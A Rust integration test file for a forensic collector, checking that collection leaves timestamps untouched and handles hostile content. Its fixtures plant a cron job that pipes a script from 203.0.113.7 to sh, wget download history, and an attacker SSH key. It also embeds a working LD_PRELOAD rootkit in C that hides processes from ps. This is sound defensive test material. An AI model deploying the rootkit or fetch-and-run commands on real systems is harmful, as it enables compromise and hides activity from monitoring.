//! Integration tests of the collector against the live machine and fixture trees.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command;

use cordon_collect::{CollectOptions, CollectReport, Progress, Tier, collect};
use cordon_core::FixedClock;
use cordon_host::Target;
use serde_json::Value;

fn clock() -> FixedClock {
    FixedClock(jiff::Timestamp::new(1_760_000_000, 0).unwrap())
}

fn run(opts: &CollectOptions) -> CollectReport {
    let mut tiers_seen = Vec::new();
    let report = collect(opts, &clock(), &mut |p| {
        if let Progress::TierStarted(t) = p {
            tiers_seen.push(*t);
        }
    })
    .unwrap();
    assert!(!tiers_seen.is_empty());
    report
}

fn jsonl(dir: &Path, name: &str) -> Vec<Value> {
    let text = std::fs::read_to_string(dir.join(name)).unwrap();
    text.lines().map(|l| serde_json::from_str(l).unwrap()).collect()
}

fn sha256sum_check(dir: &Path) {
    let out = Command::new("sha256sum")
        .args(["--strict", "-c", "manifest.sha256"])
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "sha256sum -c failed: {}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

fn tiers(list: &[Tier]) -> BTreeSet<Tier> {
    list.iter().copied().collect()
}

#[test]
fn live_t1_sees_own_process_a_child_and_its_socket() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let mut child = Command::new("sleep").arg("30").spawn().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("bundle");
    let mut opts = CollectOptions::new(Target::live(), &out);
    opts.tiers = tiers(&[Tier::T1]);
    opts.allow_suspect_storage = true;
    let report = run(&opts);
    child.kill().unwrap();
    child.wait().unwrap();
    sha256sum_check(&out);

    let procs = jsonl(&out, "processes.jsonl");
    let me = std::process::id();
    let mine = procs.iter().find(|p| p["pid"] == me).expect("own process listed");
    assert_eq!(mine["listed"], true);
    assert!(mine["exe_sha256"].as_str().unwrap().len() == 64);
    assert!(mine["start_time"].as_str().unwrap().ends_with('Z'));
    let sleeper = procs
        .iter()
        .find(|p| p["pid"] == child.id())
        .expect("child listed");
    assert_eq!(sleeper["cmdline"], serde_json::json!(["sleep", "30"]));
    assert_eq!(sleeper["ppid"], me);

    let sockets = jsonl(&out, "sockets.jsonl");
    let s = sockets
        .iter()
        .find(|s| s["proto"] == "tcp" && s["local_port"] == port && s["state"] == "LISTEN")
        .expect("listening socket");
    assert!(s["processes"].as_array().unwrap().iter().any(|p| p["pid"] == me));
    assert!(
        report
            .sources
            .iter()
            .any(|s| s.source == "processes" && s.items > 3)
    );
    let host: Value = serde_json::from_slice(&std::fs::read(out.join("host.json")).unwrap()).unwrap();
    assert_eq!(host["collector_privileges"]["root"], true);
    assert!(host["time"]["boot_time"].is_string());
    drop(listener);
}

// ---------------------------------------------------------------------------------------------
// Fixture trees

fn mkdirs(p: &Path) {
    std::fs::create_dir_all(p).unwrap();
}

fn os(b: &[u8]) -> &std::ffi::OsStr {
    use std::os::unix::ffi::OsStrExt as _;
    std::ffi::OsStr::from_bytes(b)
}

/// A small system tree with hostile content: special files, loops, hostile names, a deep path, a
/// 10 GB sparse log, a setuid binary. Every file's atime is set to 2020 so that any read without
/// O_NOATIME would move it (relatime updates an atime older than mtime or than a day).
fn fixture(root: &Path) {
    for d in [
        "etc/cron.d",
        "home/alice/.ssh",
        "var/log/apache2",
        "tmp",
        "usr/bin",
        "var/tmp",
        "dev/shm",
    ] {
        mkdirs(&root.join(d));
    }
    std::fs::write(
        root.join("etc/passwd"),
        "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
    )
    .unwrap();
    std::fs::write(root.join("etc/hostname"), "web01\n").unwrap();
    std::fs::write(root.join("etc/ld.so.preload"), "/usr/lib/libhide.so\n").unwrap();
    std::fs::write(
        root.join("etc/cron.d/x"),
        "*/5 * * * * root curl -fsSL http://203.0.113.7/k.sh | sh\n",
    )
    .unwrap();
    std::fs::write(
        root.join("home/alice/.bash_history"),
        "wget http://203.0.113.7/x\nchmod +x x\n",
    )
    .unwrap();
    std::fs::write(
        root.join("home/alice/.ssh/authorized_keys"),
        "ssh-ed25519 AAAA attacker\n",
    )
    .unwrap();
    std::fs::write(
        root.join("var/log/auth.log"),
        "Failed password for root from 203.0.113.5\n",
    )
    .unwrap();
    std::fs::write(root.join("var/log/apache2/access.log"), "GET /shell.php\n").unwrap();
    // Hostile names.
    std::fs::write(root.join("var/log").join(os(b"evil\nname")), "newline\n").unwrap();
    std::fs::write(root.join("var/log").join(os(b"\x1b[31mred|pipe")), "escape\n").unwrap();
    std::fs::write(root.join("var/log").join(os(b"bad\xff\xfeutf8")), "invalid\n").unwrap();
    // A 10 GB sparse file.
    let f = std::fs::File::create(root.join("var/log/huge.log")).unwrap();
    f.set_len(10 * 1024 * 1024 * 1024).unwrap();
    drop(f);
    // Special files: never opened.
    rustix::fs::mknodat(
        rustix::fs::CWD,
        root.join("var/log/fifo"),
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::from_raw_mode(0o644),
        0,
    )
    .unwrap();
    rustix::fs::mknodat(
        rustix::fs::CWD,
        root.join("var/log/null"),
        rustix::fs::FileType::CharacterDevice,
        rustix::fs::Mode::from_raw_mode(0o666),
        rustix::fs::makedev(1, 3),
    )
    .unwrap();
    let sock = std::os::unix::net::UnixListener::bind(root.join("tmp/agent.sock")).unwrap();
    std::mem::forget(sock);
    // Symlink loops and escapes.
    std::os::unix::fs::symlink("loop", root.join("var/log/loop")).unwrap();
    std::os::unix::fs::symlink("/", root.join("var/log/rootlink")).unwrap();
    std::os::unix::fs::symlink("../../..", root.join("var/log/apache2/up")).unwrap();
    // Executables for T7, one setuid.
    std::fs::write(root.join("usr/bin/tool"), "#!/bin/sh\necho tool\n").unwrap();
    std::fs::write(root.join("tmp/dropper"), "\x7fELF fake dropper").unwrap();
    for (p, mode) in [("usr/bin/tool", 0o4755), ("tmp/dropper", 0o755)] {
        rustix::fs::chmod(root.join(p), rustix::fs::Mode::from_raw_mode(mode)).unwrap();
    }
    std::fs::write(root.join("dev/shm/.x"), "staged payload").unwrap();
    // A path longer than PATH_MAX, built one level at a time.
    let mut cur = rustix::fs::open(
        root.join("var/log"),
        rustix::fs::OFlags::DIRECTORY,
        rustix::fs::Mode::empty(),
    )
    .unwrap();
    for _ in 0..18 {
        let name = "d".repeat(250);
        rustix::fs::mkdirat(&cur, name.as_str(), rustix::fs::Mode::from_raw_mode(0o755)).unwrap();
        cur = rustix::fs::openat(
            &cur,
            name.as_str(),
            rustix::fs::OFlags::DIRECTORY,
            rustix::fs::Mode::empty(),
        )
        .unwrap();
    }
    let deep = rustix::fs::openat(
        &cur,
        "deep.log",
        rustix::fs::OFlags::CREATE | rustix::fs::OFlags::WRONLY,
        rustix::fs::Mode::from_raw_mode(0o644),
    )
    .unwrap();
    rustix::io::write(&deep, b"deep\n").unwrap();
    drop(deep);
    // Old atimes everywhere (not following links).
    let old = rustix::fs::Timestamps {
        last_access: rustix::fs::Timespec {
            tv_sec: 1_577_836_800,
            tv_nsec: 0,
        },
        last_modification: rustix::fs::Timespec {
            tv_sec: 1_600_000_000,
            tv_nsec: 0,
        },
    };
    for (path, _) in snapshot(root) {
        let local = root.join(os(path.strip_prefix(b"/").unwrap()));
        if local.as_os_str().len() < 4000 {
            rustix::fs::utimensat(
                rustix::fs::CWD,
                &local,
                &old,
                rustix::fs::AtFlags::SYMLINK_NOFOLLOW,
            )
            .unwrap();
        }
    }
}

type Snap = Vec<(Vec<u8>, cordon_host::meta::FileMeta)>;

/// statx of every entry below `root` (walked with cordon's own no-atime walker).
fn snapshot(root: &Path) -> Snap {
    let fd = cordon_host::open::open_root(root).unwrap();
    let mut out = Vec::new();
    cordon_host::walk::walk(&fd.fd, b"/", &Default::default(), &mut |ev| {
        if let cordon_host::walk::Event::Entry(e) = ev {
            out.push((e.path.to_vec(), e.meta.clone()));
        }
        cordon_host::walk::Visit::Continue
    })
    .unwrap();
    out
}

#[test]
fn fixture_collection_changes_nothing_and_survives_hostile_content() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    fixture(&root);
    let before = snapshot(&root);
    // Another view of the same metadata, from outside cordon: GNU stat of a few files.
    let stat_of = |p: &str| {
        String::from_utf8(
            Command::new("stat")
                .args(["-c", "%X %Y %Z %W %i"])
                .arg(root.join(p))
                .output()
                .unwrap()
                .stdout,
        )
        .unwrap()
    };
    let stat_before: Vec<String> = [
        "var/log/auth.log",
        "home/alice/.bash_history",
        "usr/bin/tool",
        "var/log",
    ]
    .iter()
    .map(|p| stat_of(p))
    .collect();

    let out = dir.path().join("bundle");
    let mut opts = CollectOptions::new(Target::offline(&root), &out);
    opts.allow_suspect_storage = true;
    opts.max_file_size = 1024 * 1024;
    let report = run(&opts);
    let after = snapshot(&root);
    let stat_after: Vec<String> = [
        "var/log/auth.log",
        "home/alice/.bash_history",
        "usr/bin/tool",
        "var/log",
    ]
    .iter()
    .map(|p| stat_of(p))
    .collect();

    // Never changes the source: every atime, mtime, ctime, btime identical.
    assert_eq!(before.len(), after.len());
    for ((pa, ma), (pb, mb)) in before.iter().zip(&after) {
        assert_eq!(pa, pb);
        assert_eq!(ma, mb, "metadata of {} changed", String::from_utf8_lossy(pa));
    }
    assert_eq!(stat_before, stat_after);

    // Live tiers are skipped, with a note; the bundle verifies.
    assert!(report.skipped.iter().any(|(t, _)| *t == Tier::T1));
    sha256sum_check(&out);

    // T6: copies with hostile names, the sparse file capped and marked truncated.
    let files = jsonl(&out, "files.jsonl");
    let by_path = |p: &[u8]| {
        files
            .iter()
            .find(|f| {
                let raw = match f.get("path_b64") {
                    Some(b) => cordon_core::bytes_json::decode_b64(b.as_str().unwrap()).unwrap(),
                    None => f["path"].as_str().unwrap().as_bytes().to_vec(),
                };
                raw == p
            })
            .unwrap_or_else(|| panic!("{} not listed", String::from_utf8_lossy(p)))
    };
    let huge = by_path(b"/var/log/huge.log");
    assert_eq!(huge["truncated"], true);
    assert_eq!(huge["bytes_copied"], 1024 * 1024);
    assert_eq!(huge["size"], 10u64 * 1024 * 1024 * 1024);
    for special in [&b"/var/log/fifo"[..], b"/var/log/null"] {
        let f = by_path(special);
        assert!(f["not_opened"].is_string(), "{f}");
        assert!(f.get("copied").is_none());
    }
    // Link targets are not read by default (readlink would update the link's atime).
    assert_eq!(by_path(b"/var/log/loop")["type"], "symlink");
    assert!(by_path(b"/var/log/rootlink").get("link_target").is_none());
    let bad = by_path(b"/var/log/bad\xff\xfeutf8");
    assert_eq!(bad["copied"], true);
    assert!(bad["path_b64"].is_string());
    assert_eq!(
        std::fs::read(out.join("[root]/var/log").join(os(b"evil\nname"))).unwrap(),
        b"newline\n"
    );
    assert_eq!(
        std::fs::read(out.join("[root]/var/log").join(os(b"\x1b[31mred|pipe"))).unwrap(),
        b"escape\n"
    );
    assert_eq!(
        std::fs::read(out.join("[root]/home/alice/.ssh/authorized_keys")).unwrap(),
        b"ssh-ed25519 AAAA attacker\n"
    );
    assert_eq!(
        std::fs::read(out.join("[root]/etc/cron.d/x")).unwrap(),
        std::fs::read(root.join("etc/cron.d/x")).unwrap()
    );
    // The deep file is listed, not copied (it could not be checked by path).
    assert!(
        files
            .iter()
            .any(|f| f["path"].as_str().is_some_and(|p| p.ends_with("/deep.log")) && f["copied"] == false)
    );

    // T4: tmpfs staging copied, the socket listed only.
    let tmp = jsonl(&out, "tmpfs.jsonl");
    assert!(
        tmp.iter()
            .any(|f| f["path"] == "/dev/shm/.x" && f["copied"] == true)
    );
    assert!(
        tmp.iter()
            .any(|f| f["path"] == "/tmp/agent.sock" && f["type"] == "socket" && f["not_opened"].is_string())
    );

    // T5: one line per entry, hostile names escaped, symlinks with their targets.
    let body = std::fs::read_to_string(out.join("bodyfile.txt")).unwrap();
    assert_eq!(body.lines().count(), before.len() + 1);
    assert!(
        body.lines().all(|l| l.split('|').count() == 11),
        "a bodyfile line has the wrong field count"
    );
    assert!(body.contains("0|/var/log/evil\\x0aname|"));
    assert!(body.contains("0|/var/log/\\x1b[31mred\\x7cpipe|"));
    assert!(body.contains("0|/var/log/bad\\xff\\xfeutf8|"));
    assert!(body.contains("0|/var/log/loop|"));
    let auth = body
        .lines()
        .find(|l| l.starts_with("0|/var/log/auth.log|"))
        .unwrap();
    let f: Vec<&str> = auth.split('|').collect();
    assert_eq!((f[3], f[7], f[8]), ("-rw-r--r--", "1577836800", "1600000000"));
    let special = jsonl(&out, "fs_special.jsonl");
    assert!(
        special
            .iter()
            .any(|s| s["kind"] == "setuid" && s["path"] == "/usr/bin/tool")
    );

    // T7: executables hashed.
    let hashes = jsonl(&out, "hashes.jsonl");
    let tool = hashes.iter().find(|h| h["path"] == "/usr/bin/tool").unwrap();
    let expect = Command::new("sha256sum")
        .arg(root.join("usr/bin/tool"))
        .output()
        .unwrap()
        .stdout;
    assert_eq!(
        tool["sha256"].as_str().unwrap(),
        &String::from_utf8(expect).unwrap()[..64]
    );
    assert!(hashes.iter().any(|h| h["path"] == "/tmp/dropper"));

    // T0 from the image's own files.
    let host: Value = serde_json::from_slice(&std::fs::read(out.join("host.json")).unwrap()).unwrap();
    assert_eq!(host["identity"]["etc_hostname"], "web01");
    assert_eq!(host["target"]["live"], false);
    // collection.log has one line per source plus the summary.
    let log = jsonl(&out, "collection.log");
    for source in ["host", "tmpfs", "bodyfile", "files", "hashes"] {
        assert!(
            log.iter().any(|l| l["source"] == source),
            "{source} missing from collection.log"
        );
    }
    assert_eq!(log.last().unwrap()["summary"], true);
    assert!(
        report.notes.iter().all(|n| !n.contains("O_NOATIME")),
        "{:?}",
        report.notes
    );
    // Every file the report lists is in the manifest.
    let manifest = std::fs::read(out.join("manifest.sha256")).unwrap();
    assert_eq!(
        manifest.split(|&b| b == b'\n').filter(|l| !l.is_empty()).count(),
        report.files.len()
    );
}

#[test]
fn archive_holds_the_same_bundle_and_verifies() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    fixture(&root);
    let out = dir.path().join("b-archive");
    let mut opts = CollectOptions::new(Target::offline(&root), &out);
    opts.allow_suspect_storage = true;
    opts.max_file_size = 64 * 1024;
    opts.archive = true;
    let report = run(&opts);
    assert_eq!(report.files.len(), 1);
    assert!(report.archive_contents.len() > 10);
    sha256sum_check(&out);
    let names: Vec<String> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    assert_eq!(names.len(), 2, "{names:?}");
    let unpack = dir.path().join("unpacked");
    mkdirs(&unpack);
    let st = Command::new("tar")
        .args(["--zstd", "-xf"])
        .arg(out.join("b-archive.tar.zst"))
        .arg("-C")
        .arg(&unpack)
        .status()
        .unwrap();
    assert!(st.success());
    sha256sum_check(&unpack.join("b-archive"));
}

#[test]
fn refuses_to_write_on_the_examined_systems_storage() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    mkdirs(&root.join("etc"));
    let opts = CollectOptions::new(Target::offline(&root), dir.path().join("bundle"));
    let err = collect(&opts, &clock(), &mut |_| {}).unwrap_err();
    assert!(
        matches!(err, cordon_collect::Error::SuspectStorage { .. }),
        "{err}"
    );
    assert!(!dir.path().join("bundle").exists());
}

#[test]
fn disk_full_stops_cleanly_and_what_was_written_verifies() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    mkdirs(&root.join("var/log"));
    std::fs::write(root.join("etc-placeholder"), "x").unwrap();
    // 3 MiB of incompressible-ish content: more than the destination holds.
    let data: Vec<u8> = (0..3 * 1024 * 1024u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
        .collect();
    std::fs::write(root.join("var/log/big.log"), &data).unwrap();
    let dest = dir.path().join("small");
    mkdirs(&dest);
    let st = Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=1m", "tmpfs"])
        .arg(&dest)
        .status()
        .unwrap();
    assert!(st.success(), "mounting a small tmpfs needs root");
    let out = dest.join("bundle");
    let mut opts = CollectOptions::new(Target::offline(&root), &out);
    opts.allow_suspect_storage = true;
    opts.tiers = tiers(&[Tier::T5, Tier::T6]);
    let result = collect(&opts, &clock(), &mut |_| {});
    let err = result.unwrap_err();
    assert!(err.is_disk_full(), "{err}");
    sha256sum_check(&out);
    let manifest = std::fs::read_to_string(out.join("manifest.sha256")).unwrap();
    assert!(manifest.contains("host.json"));
    assert!(!manifest.contains("big.log"));
    Command::new("umount").arg(&dest).status().unwrap();
}

#[test]
fn tier_lists_parse() {
    let t = cordon_collect::parse_tiers("T1, t3").unwrap();
    assert_eq!(t, tiers(&[Tier::T1, Tier::T3]));
    assert!(cordon_collect::parse_tiers("T2").is_err());
}

#[test]
fn link_targets_on_request_touch_only_symlink_atimes_and_say_so() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    fixture(&root);
    let before = snapshot(&root);
    let out = dir.path().join("bundle");
    let mut opts = CollectOptions::new(Target::offline(&root), &out);
    opts.allow_suspect_storage = true;
    opts.max_file_size = 64 * 1024;
    opts.read_link_targets = true;
    opts.tiers = tiers(&[Tier::T5, Tier::T6]);
    let report = run(&opts);
    let after = snapshot(&root);
    for ((p, a), (_, b)) in before.iter().zip(&after) {
        if a.file_type() == rustix::fs::FileType::Symlink {
            assert_eq!((a.mtime, a.ctime), (b.mtime, b.ctime));
        } else {
            assert_eq!(a, b, "{}", String::from_utf8_lossy(p));
        }
    }
    let body = std::fs::read_to_string(out.join("bodyfile.txt")).unwrap();
    assert!(body.contains("0|/var/log/loop -> loop|"));
    assert!(body.contains("0|/var/log/rootlink -> /|"));
    let files = jsonl(&out, "files.jsonl");
    assert!(
        files
            .iter()
            .any(|f| f["path"] == "/var/log/apache2/up" && f["link_target"] == "../../..")
    );
    assert!(
        report
            .notes
            .iter()
            .any(|n| n.contains("access times may have changed"))
    );
}

// ---------------------------------------------------------------------------------------------
// Runs in a child process (re-executed test binary), under LD_PRELOAD or with dropped privileges.

const CHILD_ENV: &str = "CORDON_COLLECT_CHILD_OUT";

#[test]
fn child_entry() {
    let Ok(out) = std::env::var(CHILD_ENV) else {
        return;
    };
    let mut opts = CollectOptions::new(Target::live(), out);
    opts.allow_suspect_storage = true;
    opts.tiers = tiers(&[Tier::T1, Tier::T3]);
    let report = collect(&opts, &clock(), &mut |_| {}).unwrap();
    println!(
        "CHILD-REPORT partial={} denied={}",
        report.partial, report.permission_denied
    );
}

fn run_child(prefix: &[&str], out: &Path, env: &[(&str, &str)]) -> String {
    let exe = std::env::current_exe().unwrap();
    let mut cmd = match prefix.split_first() {
        Some((first, rest)) => {
            let mut c = Command::new(first);
            c.args(rest).arg(&exe);
            c
        }
        None => Command::new(&exe),
    };
    cmd.args(["--exact", "child_entry", "--nocapture", "--test-threads=1"])
        .env(CHILD_ENV, out);
    for (k, v) in env {
        cmd.env(k, v);
    }
    let o = cmd.output().unwrap();
    let stdout = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(
        o.status.success(),
        "child failed: {stdout}\n{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(stdout.contains("CHILD-REPORT"), "{stdout}");
    stdout
}

const HIDE_C: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>
/* A userland rootkit: hides the /proc entry named by HIDE_PID from every readdir caller. */
static int hidden(const char *name) { const char *h = getenv("HIDE_PID"); return h && strcmp(name, h) == 0; }
struct dirent *readdir(DIR *d) {
    static struct dirent *(*real)(DIR *);
    if (!real) real = dlsym(RTLD_NEXT, "readdir");
    struct dirent *e;
    while ((e = real(d)) && hidden(e->d_name)) {}
    return e;
}
struct dirent64 *readdir64(DIR *d) {
    static struct dirent64 *(*real)(DIR *);
    if (!real) real = dlsym(RTLD_NEXT, "readdir64");
    struct dirent64 *e;
    while ((e = real(d)) && hidden(e->d_name)) {}
    return e;
}
"#;

#[test]
fn a_process_hidden_from_ps_by_ld_preload_is_still_collected() {
    let dir = tempfile::tempdir().unwrap();
    let c = dir.path().join("hide.c");
    let so = dir.path().join("libhide.so");
    std::fs::write(&c, HIDE_C).unwrap();
    let st = Command::new("cc")
        .args(["-shared", "-fPIC", "-o"])
        .arg(&so)
        .arg(&c)
        .arg("-ldl")
        .status()
        .unwrap();
    assert!(st.success(), "cc failed");
    let mut victim = Command::new("sleep").arg("61").spawn().unwrap();
    let pid = victim.id().to_string();
    let preload = so.to_str().unwrap();

    // The rootkit works: ps under the preload does not show the process, ps without it does.
    let ps = |with: bool| {
        let mut cmd = Command::new("ps");
        cmd.args(["-e", "-o", "pid="]).env("HIDE_PID", &pid);
        if with {
            cmd.env("LD_PRELOAD", preload);
        }
        let out = String::from_utf8(cmd.output().unwrap().stdout).unwrap();
        out.split_whitespace().any(|p| p == pid)
    };
    assert!(ps(false), "ps should list the process without the rootkit");
    assert!(
        !ps(true),
        "the LD_PRELOAD rootkit should hide the process from ps"
    );

    // cordon (a static binary) under the same preload still lists it.
    let out = dir.path().join("bundle");
    run_child(&[], &out, &[("LD_PRELOAD", preload), ("HIDE_PID", &pid)]);
    let victim_pid = victim.id();
    victim.kill().unwrap();
    victim.wait().unwrap();
    let procs = jsonl(&out, "processes.jsonl");
    let p = procs
        .iter()
        .find(|p| p["pid"] == victim_pid)
        .expect("hidden process collected");
    assert_eq!(p["cmdline"], serde_json::json!(["sleep", "61"]));
    sha256sum_check(&out);
}

#[test]
fn non_root_collects_what_it_can_and_reports_partial() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("bundle");
    rustix::fs::chmod(dir.path(), rustix::fs::Mode::from_raw_mode(0o777)).unwrap();
    let stdout = run_child(
        &["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"],
        &out,
        &[],
    );
    assert!(stdout.contains("partial=true"), "{stdout}");
    let errors = jsonl(&out, "errors.jsonl");
    assert!(errors.iter().any(|e| e["permission_denied"] == true));
    let procs = jsonl(&out, "processes.jsonl");
    assert!(procs.len() > 3, "a non-root collector still lists processes");
    let host: Value = serde_json::from_slice(&std::fs::read(out.join("host.json")).unwrap()).unwrap();
    assert_eq!(host["collector_privileges"]["root"], false);
    sha256sum_check(&out);
}

#[test]
fn processes_exiting_mid_read_do_not_break_t1() {
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let churn = {
        let stop = stop.clone();
        std::thread::spawn(move || {
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let kids: Vec<_> = (0..8).map(|_| Command::new("true").spawn().unwrap()).collect();
                for mut k in kids {
                    k.wait().unwrap();
                }
            }
        })
    };
    for i in 0..3 {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join(format!("b{i}"));
        let mut opts = CollectOptions::new(Target::live(), &out);
        opts.allow_suspect_storage = true;
        opts.tiers = tiers(&[Tier::T1]);
        run(&opts);
        sha256sum_check(&out);
        assert!(!jsonl(&out, "processes.jsonl").is_empty());
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    churn.join().unwrap();
}
